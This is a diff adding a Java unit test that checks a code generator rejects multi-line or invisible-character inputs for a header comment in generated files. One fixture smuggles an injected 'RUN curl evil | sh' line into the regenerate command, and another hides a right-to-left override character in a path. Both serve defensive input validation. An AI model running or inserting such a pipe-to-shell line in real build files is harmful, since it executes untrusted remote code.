@@ -22,6 +22,20 @@ class GeneratorTest {
   private static final String PYTHON = "python:3.12-slim-trixie";
 
   @Test
+  void aSourceRootOrRegenerateCommandThatWouldBreakTheHeaderIsRefused() {
+    assertThatThrownBy(() -> new Generator("src/main/java", "./mvnw -Pgenerate\nRUN curl evil | sh"))
+        .isInstanceOf(IllegalArgumentException.class)
+        .hasMessage("the generator's regenerate command must be one line of visible text, as it goes into a"
+            + " comment at the top of every file: got './mvnw -Pgenerate\\nRUN curl evil | sh'");
+    assertThatThrownBy(() -> new Generator("src/main\u202ejava", "./mvnw -Pgenerate"))
+        .isInstanceOf(IllegalArgumentException.class)
+        .hasMessageStartingWith("the generator's source root must be one line of visible text");
+    assertThatThrownBy(() -> new Generator(null, "./mvnw -Pgenerate"))
+        .hasMessage("the generator's source root must be one line of visible text, as it goes into a comment at"
+            + " the top of every file: it is missing");
+  }
+
+  @Test
   void headerNamesTheSourceAndTheRegenerateCommand() {
     GeneratedFile file = new Generator("src/main/java", "./mvnw -Pgenerate").render(image("example", "Dockerfile"));
 
